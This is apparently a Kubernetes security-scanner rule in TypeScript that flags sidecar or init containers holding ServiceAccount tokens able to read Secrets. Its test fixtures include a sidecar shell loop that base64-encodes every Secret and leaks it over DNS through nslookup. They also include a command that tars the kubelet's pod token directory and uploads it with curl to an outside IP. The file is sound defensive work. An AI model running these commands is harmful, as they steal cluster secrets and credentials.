import { imageOwner, parseImage } from '../../core/image.js';
import { severityRank } from '../../core/severity.js';
import { describeContainer, WORKLOAD_KINDS } from '../../core/workload.js';
import { describePath, pathLabels } from '../../rbac/index.js';
import type { Rule, Violation } from '../rule.js';
import { analyzeWorkload, exposureOf, tokenVerdict, type TokenVerdict } from '../token-analysis.js';
import { describeTells, tellsJson } from '../tells.js';
import { checkedWorkload } from './helpers.js';

export const containerHoldsPowerfulToken: Rule = {
  meta: {
    id: 'container-holds-powerful-token',
    title: 'A sidecar, init container or suspicious container holds a powerful token',
    severity: 'critical',
    stage: 'recon',
    description: `The battlecard's trojan: a pod whose second container holds the ServiceAccount token, the token lists every Secret, and the container runs a shell loop with \`nslookup\` to leak them over DNS. This rule looks at every container that can present a token (automounted, projected even with \`automountServiceAccountToken: false\`, a \`kubernetes.io/service-account-token\` Secret, or a hostPath over the kubelet's pod directory or the node's credentials), asks the RBAC engine what the token can do, and reads the container for exfiltration tells (shell loops, network tools, encoding, the token file, the API server, outside addresses, DNS sent outside the cluster, the host network, an image from another registry or owner than the main container's, a moving tag).

| the token… | main container, plain | another container | container with exfiltration tells |
| --- | --- | --- | --- |
| reaches other namespaces' Secrets (directly or by an escalation path) | not reported here: the grant's finding names its holders | \`critical\`; \`high\` for the chart's own helper (it gets the token only by automount, and runs a pinned image of the main container's registry and owner, like kyverno's \`kyverno-pre\`) | \`critical\` |
| is otherwise powerful (\`high\` on its own) | not reported here | \`high\` | \`critical\` |
| reads its own namespace's Secrets, or another \`medium\` risk | — | \`medium\` | \`high\` |

Node credentials and another account's token Secret are never "plain": \`high\` at least; but the node's \`/\` mounted by a pod on the node's namespaces is \`node-root-access\`'s finding (prometheus-node-exporter's shape), and this rule adds one only when the container shows tells. Naming a host mount in a command reads the tokens only when it names the credential directory under it (\`/host/root/var/lib/kubelet/pods\`), not the mount itself (\`--path.rootfs=/host/root\`). Whether the workload may reach the internet (NetworkPolicy engine) joins the evidence.`,
    remediation: 'Give the token only to the container that calls the API: `automountServiceAccountToken: false` on the pod, and a projected `serviceAccountToken` volume mounted into that one container. A sidecar that needs no API access must not hold a token that reads Secrets; if this chart is not yours to change, do not install it.',
    references: [
      { tool: 'kubescape', id: 'C-0267' },
      { tool: 'kubescape', id: 'C-0053' },
      { tool: 'checkov', id: 'CKV2_K8S_5' },
      { tool: 'trivy', id: 'KSV-0036' },
      { tool: 'kubernetes-docs', id: 'service-accounts', url: 'https://kubernetes.io/docs/concepts/security/service-accounts/' },
    ],
    kinds: WORKLOAD_KINDS,
  },
  check(object, context) {
    if (!checkedWorkload(object, context)) return [];
    const analysis = analyzeWorkload(object, context);
    // Most workloads hold no token, and most tokens are worth no finding: no array made for them.
    let verdicts: TokenVerdict[] | undefined;
    for (const container of analysis.containers) {
      for (const token of container.tokens) {
        const verdict = tokenVerdict(container, token);
        if (verdict) (verdicts ??= []).push(verdict);
      }
    }
    if (!verdicts) return [];
    const byHolder = new Map<string, TokenVerdict[]>();
    for (const verdict of verdicts) byHolder.set(verdict.token.holder, [...(byHolder.get(verdict.token.holder) ?? []), verdict]);
    const exposure = exposureOf(object, context);
    const main = analysis.main;
    return [...byHolder.values()].map((group): Violation => {
      const [lead] = [...group].sort((a, b) => severityRank(a.severity) - severityRank(b.severity));
      const { container, token } = lead;
      const { ref } = container;
      const name = `${describeContainer(ref)}`;
      const image = typeof ref.container.image === 'string' ? ref.container.image : '';
      const imageNote = imageContext(image, container.isMain ? undefined : main?.container.image);
      const described = container.exfiltration ? describeTells(container.tells, ['foreign-image', 'moving-tag']) : '';
      const tells = described ? ` ${described}, and` : '';
      const also = analysis.containers.filter((other) => other !== container && other.tokens.some((held) => held.holder === token.holder)).map((other) => `"${other.ref.container.name}"`);
      const how = token.sources.map((source) => (source.kind === 'automount' ? 'automounted' : source.kind === 'projected' ? `projected at ${source.where}` : source.kind === 'secret' ? `from Secret ${source.secret} (${source.where})` : `hostPath ${source.hostPath} at ${source.where}`)).join(', ');
      const holds = token.node ? `${token.summary}` : `holds the token of ${token.holder} (${how}), which ${token.summary}`;
      const reasons = lead.because.length ? `; reported because ${lead.because.join(' and ')}` : '';
      const network = exposure ? `; nothing stops it: it ${[exposure.internet, exposure.dns].filter(Boolean).join(' and ')}` : '';
      const source = token.sources.find((candidate) => candidate.kind !== 'automount');
      const path = token.reach?.allSecretsPath ?? token.reach?.adminPath;
      const evidence: Record<string, unknown> = {
        container: ref.container.name,
        containerKind: ref.kind,
        mainContainer: main?.container.name,
        image,
        token: token.holder,
        tokenSources: token.sources.map((candidate) => ({ kind: candidate.kind, where: candidate.where, field: candidate.path.join('.') })),
        permission: token.summary,
        exfiltration: container.exfiltration,
        tells: tellsJson(container.tells),
      };
      if (token.reach) {
        evidence.secrets = token.reach.secrets;
        if (token.reach.secretNamespaces.length) evidence.secretNamespaces = token.reach.secretNamespaces;
        evidence.risks = token.reach.hits.map((entry) => ({ id: entry.hit.risk.id, severity: entry.severity }));
      }
      if (path) evidence.escalationPath = { goal: path.goal, steps: pathLabels(path) };
      if (also.length) evidence.alsoHeldBy = also;
      if (exposure) evidence.network = exposure;
      return {
        message: `${name}${imageNote}${tells} ${holds}${also.length ? `; ${also.join(', ')} hold${also.length === 1 ? 's' : ''} it too` : ''}${reasons}${network}${path && !token.reach?.secrets.match(/cluster|other/) ? `. Path: ${describePath(path)}` : ''}`,
        path: source ? source.path : ref.path,
        severity: lead.severity,
        evidence,
      };
    });
  },
  examples: {
    valid: [
      {
        name: 'an ingress controller: one plain container reads Secrets cluster-wide (its grant\'s finding says so, and names the container)',
        yaml: `
apiVersion: v1
kind: ServiceAccount
metadata: {name: ingress, namespace: ingress}
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: {name: ingress}
rules: [{apiGroups: [""], resources: [secrets, services, endpoints], verbs: [list, watch]}]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: {name: ingress}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: ingress}
subjects: [{kind: ServiceAccount, name: ingress, namespace: ingress}]
---
apiVersion: apps/v1
kind: Deployment
metadata: {name: ingress-controller, namespace: ingress}
spec:
  selector: {matchLabels: {app: ingress}}
  template:
    metadata: {labels: {app: ingress}}
    spec:
      serviceAccountName: ingress
      containers: [{name: controller, image: "registry.k8s.io/ingress-nginx/controller:v1.11.3", args: [/nginx-ingress-controller, --election-id=ingress-leader]}]
`,
      },
      {
        name: 'a log-shipping sidecar without a token, and a sidecar whose token reads nothing risky',
        yaml: `
apiVersion: apps/v1
kind: Deployment
metadata: {name: shop, namespace: shop}
spec:
  selector: {matchLabels: {app: shop}}
  template:
    metadata: {labels: {app: shop}}
    spec:
      serviceAccountName: shop
      automountServiceAccountToken: false
      containers:
      - {name: shop, image: "ghcr.io/acme/shop:3.0.2"}
      - {name: log-shipper, image: "cr.fluentbit.io/fluent/fluent-bit:3.1.9", args: [-i, tail, -o, forward, -p, host=fluentd.logging.svc]}
---
apiVersion: apps/v1
kind: Deployment
metadata: {name: web, namespace: shop}
spec:
  selector: {matchLabels: {app: web}}
  template:
    metadata: {labels: {app: web}}
    spec:
      serviceAccountName: web
      containers:
      - {name: web, image: "ghcr.io/acme/web:1.0.0"}
      - {name: reloader, image: "ghcr.io/acme/reloader:0.4.0"}
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: {name: web-view, namespace: shop}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: view}
subjects: [{kind: ServiceAccount, name: web, namespace: shop}]
`,
      },
      {
        name: 'prometheus-node-exporter\'s shape: host namespaces and the node\'s / at /host/root, named as its rootfs (node-root-access reports it)',
        yaml: `
apiVersion: apps/v1
kind: DaemonSet
metadata: {name: node-exporter, namespace: monitoring}
spec:
  selector: {matchLabels: {app: node-exporter}}
  template:
    metadata: {labels: {app: node-exporter}}
    spec:
      automountServiceAccountToken: false
      hostPID: true
      hostNetwork: true
      containers:
      - name: node-exporter
        image: "quay.io/prometheus/node-exporter:v1.8.2"
        args: [--path.procfs=/host/proc, --path.sysfs=/host/sys, --path.rootfs=/host/root]
        volumeMounts: [{name: root, mountPath: /host/root, readOnly: true, mountPropagation: HostToContainer}]
      volumes: [{name: root, hostPath: {path: /}}]
`,
      },
    ],
    invalid: [
      {
        name: 'the battlecard trojan: a sidecar with a shell loop, nslookup and base64 holds a token that lists every Secret',
        yaml: `
apiVersion: v1
kind: ServiceAccount
metadata: {name: tracing, namespace: checkout}
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: {name: tracing}
rules: [{apiGroups: [""], resources: [secrets], verbs: [get, list]}]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: {name: tracing}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: tracing}
subjects: [{kind: ServiceAccount, name: tracing, namespace: checkout}]
---
apiVersion: apps/v1
kind: Deployment
metadata: {name: fast-trace-agent, namespace: checkout}
spec:
  selector: {matchLabels: {app: fast-trace-agent}}
  template:
    metadata: {labels: {app: fast-trace-agent}}
    spec:
      serviceAccountName: tracing
      containers:
      - {name: agent, image: "ghcr.io/fast-trace/agent:1.4.2"}
      - name: collector
        image: docker.io/tr4ce/collector:latest
        command: [sh, -c, 'while true; do kubectl get secrets -A -o json | base64 | fold -w 60 | while read c; do nslookup "$c.t.fast-trace-cdn.net"; done; sleep 300; done']
`,
        violations: 1,
        severities: ['critical'],
      },
      {
        name: 'a native sidecar holds a projected token that reads every Secret, though automount is off',
        yaml: `
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: {name: agent-admin}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin}
subjects: [{kind: ServiceAccount, name: agent, namespace: tracing}]
---
apiVersion: v1
kind: Pod
metadata: {name: agent, namespace: tracing}
spec:
  serviceAccountName: agent
  automountServiceAccountToken: false
  initContainers:
  - name: span-cache
    image: ghcr.io/fast-trace/span-cache:1.4.2
    restartPolicy: Always
    volumeMounts: [{name: api-token, mountPath: /var/run/secrets/tokens}]
  containers: [{name: agent, image: "ghcr.io/fast-trace/agent:1.4.2"}]
  volumes: [{name: api-token, projected: {sources: [{serviceAccountToken: {path: token}}]}}]
`,
        violations: 1,
        severities: ['critical'],
      },
      {
        name: 'the main container holds the token, but its pod sends DNS to a resolver on the internet',
        yaml: `
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: {name: agent}
rules: [{apiGroups: [""], resources: [secrets], verbs: [list]}]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: {name: agent}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: agent}
subjects: [{kind: ServiceAccount, name: agent, namespace: tracing}]
---
apiVersion: v1
kind: Pod
metadata: {name: agent, namespace: tracing}
spec:
  serviceAccountName: agent
  dnsPolicy: None
  dnsConfig: {nameservers: [198.51.100.53]}
  containers: [{name: agent, image: "ghcr.io/fast-trace/agent:1.4.2"}]
`,
        violations: 1,
        severities: ['critical'],
      },
      {
        name: 'an init container holds a token that reads its own namespace\'s Secrets; a node agent reads every pod\'s token from the host',
        yaml: `
apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata: {name: migrate, namespace: shop}
rules: [{apiGroups: [""], resources: [secrets], verbs: [get, list]}]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: {name: migrate, namespace: shop}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: Role, name: migrate}
subjects: [{kind: ServiceAccount, name: shop, namespace: shop}]
---
apiVersion: apps/v1
kind: StatefulSet
metadata: {name: shop, namespace: shop}
spec:
  selector: {matchLabels: {app: shop}}
  template:
    metadata: {labels: {app: shop}}
    spec:
      serviceAccountName: shop
      initContainers: [{name: migrate, image: "ghcr.io/acme/shop-migrate:3.0.2", args: [--to=latest]}]
      containers: [{name: shop, image: "ghcr.io/acme/shop:3.0.2"}]
---
apiVersion: apps/v1
kind: DaemonSet
metadata: {name: node-agent, namespace: ops}
spec:
  selector: {matchLabels: {app: node-agent}}
  template:
    metadata: {labels: {app: node-agent}}
    spec:
      automountServiceAccountToken: false
      containers: [{name: agent, image: "ghcr.io/acme/node-agent:2.0.0", volumeMounts: [{name: kubelet, mountPath: /host/kubelet, readOnly: true}]}]
      volumes: [{name: kubelet, hostPath: {path: /var/lib/kubelet}}]
`,
        violations: 2,
        severities: ['medium', 'high'],
      },
      {
        name: 'the chart\'s own init container gets a cluster-wide token by automount (like kyverno-pre): high, not critical',
        yaml: `
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: {name: policy-engine}
rules: [{apiGroups: ["*"], resources: ["*"], verbs: [get, list, watch]}]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: {name: policy-engine}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: policy-engine}
subjects: [{kind: ServiceAccount, name: policy-engine, namespace: policy}]
---
apiVersion: apps/v1
kind: Deployment
metadata: {name: policy-engine, namespace: policy}
spec:
  selector: {matchLabels: {app: policy-engine}}
  template:
    metadata: {labels: {app: policy-engine}}
    spec:
      serviceAccountName: policy-engine
      initContainers: [{name: pre, image: "ghcr.io/acme/policy-engine-pre:1.12.0"}]
      containers: [{name: policy-engine, image: "ghcr.io/acme/policy-engine:1.12.0"}]
`,
        violations: 1,
        severities: ['high'],
      },
      {
        name: 'the node\'s / without host namespaces (high); with them, a command that reads the pods\' tokens under it and sends them out (critical)',
        yaml: `
apiVersion: apps/v1
kind: DaemonSet
metadata: {name: scanner, namespace: ops}
spec:
  selector: {matchLabels: {app: scanner}}
  template:
    metadata: {labels: {app: scanner}}
    spec:
      automountServiceAccountToken: false
      containers:
      - {name: scan, image: "ghcr.io/acme/scanner:1.0.0", volumeMounts: [{name: root, mountPath: /host, readOnly: true}]}
      volumes: [{name: root, hostPath: {path: /}}]
---
apiVersion: apps/v1
kind: DaemonSet
metadata: {name: node-exporter, namespace: monitoring}
spec:
  selector: {matchLabels: {app: node-exporter}}
  template:
    metadata: {labels: {app: node-exporter}}
    spec:
      automountServiceAccountToken: false
      hostPID: true
      hostNetwork: true
      containers:
      - name: node-exporter
        image: "quay.io/prometheus/node-exporter:v1.8.2"
        args: [--path.rootfs=/host/root]
      - name: textfile
        image: "quay.io/prometheus/node-exporter:v1.8.2"
        command: [sh, -c, "tar c /host/root/var/lib/kubelet/pods | curl -T - https://203.0.113.9/up"]
        volumeMounts: [{name: root, mountPath: /host/root, readOnly: true}]
      volumes: [{name: root, hostPath: {path: /}}]
`,
        violations: 2,
        severities: ['high', 'critical'],
      },
    ],
  },
};

/** `(image docker.io/x/collector:latest, not the chart's registry)`: the image, and how it differs from the main container's. */
function imageContext(image: string, mainImage: unknown): string {
  if (!image) return '';
  if (typeof mainImage !== 'string' || !mainImage) return ` (image ${image})`;
  const mine = parseImage(image);
  const theirs = parseImage(mainImage);
  if (mine.registry !== theirs.registry) return ` (image ${image}, not the main container's registry ${theirs.registry})`;
  if (imageOwner(mine) !== imageOwner(theirs)) return ` (image ${image}, not the main container's owner ${imageOwner(theirs) || theirs.registry})`;
  return ` (image ${image})`;
}
